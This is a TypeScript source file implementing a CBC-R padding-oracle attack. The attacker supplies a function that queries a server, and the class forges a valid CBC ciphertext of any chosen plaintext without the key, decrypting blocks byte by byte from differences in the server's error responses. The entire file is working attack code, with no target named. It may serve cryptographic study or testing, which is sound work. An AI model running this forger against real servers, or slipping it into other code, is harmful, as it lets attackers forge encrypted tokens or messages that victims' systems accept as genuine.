import { randomBytes } from 'node:crypto';

/** The response of a server to a ciphertext, as an attacker sees it. */
export type Oracle = (iv: Buffer, ciphertext: Buffer) => string;

const BLOCK = 16;
/** The random messages whose most frequent response is that to bad padding. */
const SAMPLES = 9;

class OutOfQueries extends Error {}

/**
 * Forges a CBC ciphertext of any plaintext without the key (CBC-R, Rizzo and Duong 2010). A server whose response to bad padding
 * differs from that to bad contents reveals, byte by byte, the decryption of a block. The attacker chooses the block before it.
 *
 * It does not know the server's messages. It compares each response with the most frequent one.
 */
export class CbcForger {
  queries = 0;
  /** The number of bytes of plaintext that it has learnt. */
  learnt = 0;
  readonly results = new Set<string>();
  private usual = '';

  constructor(
    private readonly oracle: Oracle,
    private readonly maxQueries: number,
  ) {}

  /** Returns `undefined` when the queries are used up. */
  forge(plaintext: Buffer): { iv: Buffer; ciphertext: Buffer } | undefined {
    try {
      this.usual = this.mostFrequent();
      return this.chain(padded(plaintext));
    } catch (error) {
      if (error instanceof OutOfQueries) return undefined;
      throw error;
    }
  }

  /** One of 256 random blocks has a valid padding by chance, so one response is not enough. */
  private mostFrequent(): string {
    const counts = new Map<string, number>();
    for (let i = 0; i < SAMPLES; i++) {
      const result = this.ask(randomBytes(BLOCK), randomBytes(BLOCK));
      counts.set(result, (counts.get(result) ?? 0) + 1);
    }
    return [...counts].toSorted(([, one], [, other]) => other - one)[0]![0];
  }

  /** Forges from the last block to the first, because the block before it determines the plaintext of a block. */
  private chain(plaintext: Buffer): { iv: Buffer; ciphertext: Buffer } {
    let before: Buffer = randomBytes(BLOCK);
    const blocks = [before];
    for (let end = plaintext.length; end > 0; end -= BLOCK) {
      before = xor(this.decrypted(before), plaintext.subarray(end - BLOCK, end));
      blocks.unshift(before);
    }
    const [iv, ...rest] = blocks;
    return { iv: iv!, ciphertext: Buffer.concat(rest) };
  }

  /** Decrypts a block by queries. Starts again with other random bytes when a byte cannot be determined. */
  private decrypted(block: Buffer): Buffer {
    for (;;) {
      const known = Buffer.alloc(BLOCK);
      if (this.learn(block, known)) return known;
    }
  }

  private learn(block: Buffer, known: Buffer): boolean {
    for (let at = BLOCK - 1; at >= 0; at--) {
      const padding = BLOCK - at;
      const iv = randomBytes(BLOCK);
      for (let i = at + 1; i < BLOCK; i++) iv[i] = known[i]! ^ padding;
      const guess = this.guess(iv, at, block);
      if (guess === undefined) return false;
      known[at] = guess ^ padding;
      this.learnt++;
    }
    return true;
  }

  private guess(iv: Buffer, at: number, block: Buffer): number | undefined {
    for (let byte = 0; byte < 256; byte++) {
      iv[at] = byte;
      if (this.isNews(iv, block) && this.isSure(iv, at, block)) return byte;
    }
    return undefined;
  }

  /** The padding may be longer than one byte. Then the result depends on the byte before the last one. */
  private isSure(iv: Buffer, at: number, block: Buffer): boolean {
    if (at < BLOCK - 1) return true;
    const other = Buffer.from(iv);
    other[at - 1]! ^= 0x80;
    return this.isNews(other, block);
  }

  private isNews(iv: Buffer, block: Buffer): boolean {
    return this.ask(iv, block) !== this.usual;
  }

  private ask(iv: Buffer, ciphertext: Buffer): string {
    if (this.queries++ >= this.maxQueries) throw new OutOfQueries();
    const result = this.oracle(iv, ciphertext);
    this.results.add(result);
    return result;
  }
}

function padded(text: Buffer): Buffer {
  const missing = BLOCK - (text.length % BLOCK);
  return Buffer.concat([text, Buffer.alloc(missing, missing)]);
}

function xor(one: Buffer, other: Buffer): Buffer {
  return Buffer.from(one.map((byte, i) => byte ^ other[i]!));
}
